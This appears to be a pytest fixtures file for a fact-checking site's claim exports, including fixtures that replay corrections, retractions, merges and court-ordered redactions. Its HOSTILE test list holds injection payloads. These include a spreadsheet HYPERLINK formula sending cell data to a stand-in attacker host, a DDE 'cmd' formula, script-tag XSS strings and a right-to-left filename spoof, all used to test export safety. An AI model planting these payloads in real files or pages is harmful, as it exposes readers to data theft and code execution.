"""Claims to be handed on: one with everything, one whose every text is out to do harm, and a record with a history."""

import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from django.contrib.auth.models import User
from rest_framework.test import APIClient

from claims import writing as actions
from claims.exports.published import Heading, Site
from claims.models import Claim
from claims.record.reading import PublishedClaim, read_claims
from claimtrack.dates import WorldDate
from claimtrack.editions.models import Head
from tests.databases import FreshDatabase, cloned_database
from tests.factories import (
    AnswerFactory,
    AppearanceFactory,
    AssessmentFactory,
    AttributionFactory,
    ClaimFactory,
    DocumentFactory,
    EvidenceFactory,
    NarrativeFactory,
    RebuttalFactory,
    SourceFactory,
    SubjectFactory,
    TopicFactory,
)
from tests.libya import LIBYA, ROOT

SITE = Site("The Desk", "https://claims.example.org", "https://creativecommons.org/licenses/by/4.0/")
HEADING = Heading(
    SITE,
    "The Desk: claims",
    "https://claims.example.org/api/v1/claims/export.x",
    datetime(2026, 11, 23, 12, tzinfo=UTC),
)

#: What texts of others have held, and what PostgreSQL stores: everything but NUL.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"read")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " \n =1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "]]> --> <!-- &lt;b&gt; &amp;amp; &#x3c;",
    "\x01\x08\x0b\x1b\x7f\ufffe\uffff",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fعربي",
    "俄罗斯的行动；“利比亚”，黒海",
    "👩‍👩‍👧‍👦 \U0001f1f1\U0001f1fe \U0010ffff",
    "line\u2028separator\u2029paragraph",
    "_x0041_ _x005F_",
    '{"@type": "ClaimReview"} \\" \\u003c',
    "first; second;third,fourth\tfifth",
    "word " * 10_000,
]


def content(response: Any) -> bytes:
    """The whole body, however it is sent."""
    return b"".join(response) if response.streaming else bytes(response.content)


def fetched(reader: APIClient, address: str, **headers: str) -> bytes:
    response = reader.get(address, headers=headers)
    assert response.status_code == 200, content(response)
    return content(response)


def published(*claims: Claim) -> list[PublishedClaim]:
    """The newest editions of these claims, as exports read them."""
    heads = [Head.objects.get(pk=claim.pk) for claim in claims]
    rows = [(head.subject_id, head.number) for head in heads]
    return list(read_claims(rows, using="default", with_named=True))


@pytest.fixture
def whole_claim(editor: User, checker: User) -> Claim:
    """A published claim with a value in every field that exports show."""
    speaker = SourceFactory(name="A. Speaker", slug="a-speaker", kind="person", country="LY")
    paper = SourceFactory(name="The Paper", slug="the-paper", website="https://www.paper.example/", country="GB")
    claim = ClaimFactory(
        appearance=None,
        statement="The port was taken over.",
        slug="port-taken-over",
        context="Said on the quay.",
        made=WorldDate("2018-10-08", "on Monday"),
        about_time=WorldDate("2018-08/2018-10"),
        countries=["LY"],
        part_of=ClaimFactory(slug="the-whole"),
    )
    report = DocumentFactory(
        title="The report",
        publisher=paper,
        url="https://www.paper.example/2018/10/08/ports",
        archived_url="https://archive.example/1",
        published=WorldDate("2018-10"),
        authors=["A. Writer"],
    )
    first = AppearanceFactory(
        claim=claim, document=report, speaker=paper, role="reports", first_known=True, quote="taken"
    )
    AttributionFactory(appearance=first, source=speaker)
    AppearanceFactory(
        claim=claim, document=DocumentFactory(medium="post", url="https://social.example/1"), role="asserts"
    )
    AppearanceFactory(claim=claim, role="disputes")
    claim.about.add(SubjectFactory(name="The port", kind="place", same_as=["https://www.wikidata.org/wiki/Q1"]))
    claim.topics.add(TopicFactory(slug="ports"))
    claim.narratives.add(NarrativeFactory(name="Ports change hands", slug="ports-change-hands"))
    rebuttal = RebuttalFactory(statement="It was not.", quote="not so", document=report)
    AnswerFactory(rebuttal=rebuttal, claim=claim)
    evidence = EvidenceFactory(target_claim=claim, document=report, bearing="undermines")
    ours = AssessmentFactory(
        claim=claim,
        verdict="false",
        likelihood="very_unlikely",
        confidence="moderate",
        analyst=checker,
        assessed_at=WorldDate("2026-11-20"),
    )
    ours.evidence.add(evidence)
    checkers = SourceFactory(name="Fact Checkers", slug="fact-checkers", website="https://factcheckers.example/")
    article = DocumentFactory(
        title="No, the port was not taken over",
        publisher=checkers,
        url="https://www.factcheckers.example/port",
        medium="fact_check",
        language="fr",
        published=WorldDate("2018-10-12"),
    )
    theirs = AssessmentFactory(claim=claim, source=checkers, verdict="false", label="Pants on Fire!", document=article)
    for assessment in (ours, theirs):
        actions.approve(assessment=assessment, by=editor)
    actions.publish(claims=[claim.part_of, claim], narratives=list(claim.narratives.all()), by=editor)
    return claim


@pytest.fixture
def hostile_claims(editor: User) -> list[Claim]:
    """For each hostile text a published claim that has it in every field that takes a text."""
    claims = [_hostile(number, text) for number, text in enumerate(HOSTILE)]
    for claim in claims:
        for assessment in claim.assessments.all():
            actions.approve(assessment=assessment, by=None)
    actions.publish(claims=claims, by=editor)
    return claims


def _hostile(number: int, text: str) -> Claim:
    short, line = text[:200].rstrip("\t\r\n "), " ".join(text[:100].split()) or "."
    source = SourceFactory(name=short or ".", slug=f"hostile-{number}", description=text, aliases=[short])
    address = f"https://exämple.example/{number}/ü?a=<script>&b=\"'&c=%22"
    document = DocumentFactory(title=short or ".", publisher=source, url=address, authors=[short])
    claim: Claim = ClaimFactory(
        appearance=None, statement=text, slug=f"hostile-claim-{number}", context=text, made=WorldDate("2018", line)
    )
    AppearanceFactory(
        claim=claim, document=document, speaker=source, quote=text, prefix=short, hedge=short, audience=short
    )
    claim.about.add(SubjectFactory(name=short or ".", slug=f"hostile-subject-{number}"))
    rebuttal = RebuttalFactory(source=source, document=document, statement=text, quote=text, verb=short[:100])
    AnswerFactory(rebuttal=rebuttal, claim=claim)
    AssessmentFactory(claim=claim, source=source, label=short or ".", document=document, rationale=text)
    AssessmentFactory(claim=claim, rationale=text, confidence="low")
    return claim


# -- a record with a history ------------------------------------------------------------------------

#: Run by a process of its own after the case is loaded: everything that can happen to what is published.
EVENTS = """
from datetime import timedelta
from io import StringIO
from unittest import mock
from django.contrib.auth.models import User
from django.core.management import call_command
from django.utils import timezone
from claims import writing as actions
from claims.models import Claim
from claimtrack.editions import changes, clocks
from claimtrack.editions.roots import writing
from sources import writing as source_actions
from sources.models import Source

anna = User.objects.create_superuser("anna", "", "correct horse battery")
boris = User.objects.create_superuser("boris", "", "correct horse battery")
corrected, retracted, duplicate, survivor, restored, redacted, partly = Claim.objects.order_by("pk")[:7]

with actions.editing([corrected], by=anna):
    Claim.objects.filter(pk=corrected.pk).update(statement="It was otherwise.")
actions.correct(claim=Claim.objects.get(pk=corrected.pk), by=anna, note="We had it wrong.")
actions.retract(claim=retracted, by=anna, reason="Nobody said it.")
actions.merge(survivor=survivor, duplicate=duplicate, by=anna, note="The same claim twice.")
actions.retract(claim=restored, by=anna, reason="A mistake.")
actions.restore(claim=Claim.objects.get(pk=restored.pk), by=anna, note="It was none.")
with actions.editing([partly], by=anna):
    Claim.objects.filter(pk=partly.pk).update(context="Without the name.")
actions.publish(claims=[Claim.objects.get(pk=partly.pk)], by=anna)
ahead = {"CLOCK": "clock_timestamp() + interval '2 days'", "own_clock": lambda: timezone.now() + timedelta(days=2)}
with mock.patch.multiple(clocks, **ahead):
    assert changes.close_days()
call_command("accept_clock", by="anna", reason="Two days ahead.", stdout=StringIO())
for claim, numbers in ((redacted, None), (partly, [1])):
    words = {"legal_basis": "Order 1", "public_reason": "A court ordered it."}
    order = actions.order_redaction(root=claim, numbers=numbers, by=anna, **words)
    actions.redact(root=claim, order=order, by=boris)
for source in Source.objects.order_by("pk")[:2]:
    with writing(Source, [source.pk], by=anna):
        Source.objects.filter(pk=source.pk).update(description="Described anew.")
    source_actions.publish(sources=[Source.objects.get(pk=source.pk)], by=anna)
for name, claim in {"corrected": corrected, "retracted": retracted, "duplicate": duplicate, "survivor": survivor,
                    "restored": restored, "redacted": redacted, "partly": partly}.items():
    print(name, claim.pk)
"""


@dataclass(frozen=True)
class Eventful:
    """The record, and the ids of the claims that something happened to."""

    database: FreshDatabase
    ids: dict[str, str]


def manage(database: FreshDatabase, *arguments: str, home: Path) -> "subprocess.CompletedProcess[str]":
    """A command in a process of its own."""
    environment = database.environment | {
        "CLAIMTRACK_HOME": str(home),
        "SECRET_KEY": "of no use to anybody",
        "FOUR_EYES": "false",
    }
    command = [sys.executable, "manage.py", *arguments]
    return subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, check=False)


@pytest.fixture(scope="session")
def eventful(django_db_setup: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Eventful]:
    home = tmp_path_factory.mktemp("home")
    with cloned_database(LIBYA) as database:
        done = manage(database, "shell", "-v0", "-c", EVENTS, home=home)
        assert done.returncode == 0, done.stderr
        yield Eventful(database, dict(line.split() for line in done.stdout.splitlines()))


def parsed(text: str) -> object:
    return orjson.loads(text)


def texts(value: object) -> list[str]:
    """Every text in a document, however deep."""
    match value:
        case str():
            return [value]
        case dict():
            return [text for each in value.values() for text in texts(each)]
        case list():
            return [text for each in value for text in texts(each)]
    return []
